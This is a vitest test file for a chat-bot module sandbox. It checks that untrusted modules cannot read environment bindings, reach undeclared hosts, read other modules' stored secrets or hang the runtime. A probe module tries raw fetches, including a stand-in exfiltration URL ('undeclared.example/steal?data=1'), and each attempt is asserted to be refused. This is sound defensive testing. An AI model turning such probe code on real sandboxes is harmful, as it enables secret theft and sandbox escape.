import { env } from "cloudflare:test";
import { describe, expect, it } from "vitest";
import { loadConfig } from "../../src/config";
import { coreModules } from "../../src/core";
import { sha256Hex } from "../../src/hash";
import { sdkSource } from "../../src/modules/generated";
import { loadRegistry } from "../../src/modules/host";
import { buildRegistry } from "../../src/modules/registry";
import { createRuntime } from "../../src/runtime";
import { SandboxRunner } from "../../src/sandbox/runner";
import { createTenant } from "../helpers/homeserver";
import { feed } from "../helpers/modules";
import {
  answeredEventId,
  answerText,
  conversation,
  envFor,
  message,
  OWNER_ID,
} from "../helpers/worker";

const hs = await createTenant();
const testEnv = envFor(hs, { MODULE_TIMEOUT_SECONDS: "0.5" });
const STRANGER = "@stranger:test.local";

/** A runtime whose community modules are these sources, each loaded into its own sandbox. */
async function sandboxed(modules: Record<string, string>) {
  const config = loadConfig(testEnv);
  if (!config.ok) throw new Error(config.problems.join("; "));
  const runner = new SandboxRunner(env.LOADER, sdkSource, 2_000);
  const loaded = await Promise.all(
    Object.entries(modules).map(async ([name, code]) =>
      runner.load({ file: `modules/${name}.js`, name, code, sha256: await sha256Hex(code) }),
    ),
  );
  return createRuntime(testEnv, config.config, buildRegistry(coreModules, loaded));
}

async function say(rt: Awaited<ReturnType<typeof sandboxed>>, body: string, sender = OWNER_ID) {
  const event = message(body, { sender });
  await feed(rt, [event]);
  const answers = (await hs.sent()).filter((e) => answeredEventId(e.content) === event.event_id);
  return answers.map((a) => answerText(a.content)).join(" | ") || "(no answer)";
}

const PROBE = `
import { defineModule, EVERYONE } from "mxuserbot";
export default defineModule({
  name: "Probe",
  network: ["api.example.com"],
  commands: {
    probe: {
      security: EVERYONE,
      async run(ctx) {
        const seen = [];
        seen.push("env:" + typeof globalThis.env + "," + typeof globalThis.DB + "," + typeof globalThis.LOADER);
        try { const r = await fetch(ctx.argv[0]); seen.push(r.status === 403 ? "fetch:refused" : "fetch:" + r.status); } catch (e) { seen.push("fetch:" + e.name); }
        try { await ctx.http.fetch(ctx.argv[0]); seen.push("http:ok"); } catch (e) { seen.push("http:" + e.message); }
        seen.push("own:" + (await ctx.db.get("planted")));
        await ctx.respond(seen.join(" "));
      },
    },
  },
});`;

const VAULT = `
import { defineModule, OWNER } from "mxuserbot";
export default defineModule({
  name: "Vault",
  commands: { plant: { security: OWNER, async run(ctx) { await ctx.db.set("planted", "secret"); await ctx.respond("planted"); } } },
});`;

describe("the sandbox runner", () => {
  it("runs the bundled modules, each in its own sandbox, by default", async () => {
    const config = loadConfig(envFor(hs));
    if (!config.ok) throw new Error("config");
    const registry = await loadRegistry(envFor(hs), config.config, "bundled");
    expect(registry.refused).toEqual([]);
    expect(registry.modules.filter((m) => !m.trusted).map((m) => m.name)).toEqual([
      "Afk",
      "Dictionary",
      "Greeter",
      "Notes",
    ]);
    const ask = conversation(hs);
    expect(await ask(".note shop milk eggs")).toBe("📝 | Saved note shop.");
    expect(await ask(".gn shop")).toBe("📝 | shop: milk eggs");
    expect(await ask(".note onlyname")).toBe(
      "❌ | give a name and the text\nUsage: .note <name> <text>",
    );
    expect(await ask(".info")).toContain("Modules run: each in its own sandbox");
  });

  it("gives a sandbox no env, no network but its gateway, and no other module's data", async () => {
    const rt = await sandboxed({ Vault: VAULT, Probe: PROBE });
    expect(await say(rt, ".plant")).toBe("planted");
    const before = (await hs.requests()).length;
    const target = `${hs.baseUrl}/_matrix/client/v3/account/whoami`;
    const answer = await say(rt, `.probe ${target}`, STRANGER);
    expect(answer).toMatch(/^env:undefined,undefined,undefined /);
    expect(answer).toContain("http:Probe: ctx.http.fetch allows https only");
    expect(answer).toContain("own:undefined");
    // The raw fetch met the gateway, which refused it: the host saw nothing.
    expect(answer).toContain("fetch:refused");
    const reached = (await hs.requests()).slice(before).filter((r) => r.path.includes("whoami"));
    expect(reached).toEqual([]);
  });

  it("answers a reach for an undeclared host with an error, through ctx.http and raw fetch", async () => {
    const rt = await sandboxed({ Probe: PROBE });
    const answer = await say(rt, ".probe https://undeclared.example/steal?data=1", STRANGER);
    expect(answer).toContain("http:Probe: undeclared.example is not in the module's network list");
    // The raw fetch went to the gateway, which refused it without any request going out.
    expect(answer).toContain("fetch:refused");
  });

  it("refuses a module that throws at its top level, or lies about its name, and keeps the rest", async () => {
    const rt = await sandboxed({
      Boom: `throw new Error("top level");`,
      Liar: `import { defineModule } from "mxuserbot"; export default defineModule({ name: "Vault" });`,
      Vault: VAULT,
    });
    expect(rt.registry.refused.map((r) => `${r.name}: ${r.reasons[0]}`)).toEqual([
      expect.stringMatching(/^Boom: it did not start in its sandbox/),
      "Liar: it declares the name Vault in its sandbox, but Liar when it was scanned",
    ]);
    expect(await say(rt, ".plant")).toBe("planted");
  });

  it("abandons a handler that does not settle in time, and stays responsive", async () => {
    const rt = await sandboxed({
      Hang: `import { defineModule } from "mxuserbot";
        export default defineModule({ name: "Hang", commands: {
          slow: { run: () => new Promise((resolve) => setTimeout(resolve, 30000)) },
          never: { run: () => new Promise(() => {}) },
        } });`,
    });
    expect(await say(rt, ".slow")).toBe(
      "⚠️ | .slow failed: HandlerTimeoutError: .slow did not finish in time",
    );
    // A promise that can never settle is cancelled by the runtime itself, even sooner.
    expect(await say(rt, ".never")).toMatch(/^⚠️ \| \.never failed: .*(hung|did not finish)/);
    expect(await say(rt, ".ping")).toMatch(/Pong/);
  });

  it("passes usage errors, logs and config across the boundary as data", async () => {
    const rt = await sandboxed({
      Cfg: `import { defineModule, UsageError } from "mxuserbot";
        export default defineModule({
          name: "Cfg",
          config: { level: { default: 3, validate: (v) => (typeof v === "number" && v > 0) || "must be positive" } },
          commands: { lvl: { usage: "<n>", async run(ctx) {
            ctx.log.info("lvl ran");
            if (ctx.argv.length === 0) throw new UsageError("give a number");
            await ctx.respond("level " + ctx.config.get("level") + " arg " + ctx.argv[0]);
          } } },
        });`,
    });
    expect(await say(rt, ".lvl")).toBe("❌ | give a number\nUsage: .lvl <n>");
    expect(await say(rt, ".lvl 7")).toBe("level 3 arg 7");
    expect(await say(rt, ".cfg Cfg level -1")).toBe("❌ | Cfg.level: must be positive");
    expect(await say(rt, ".cfg Cfg level 5")).toMatch(/^✅ \| Cfg: level = 5/);
    expect(await say(rt, ".lvl 1")).toBe("level 5 arg 1");
  });
});
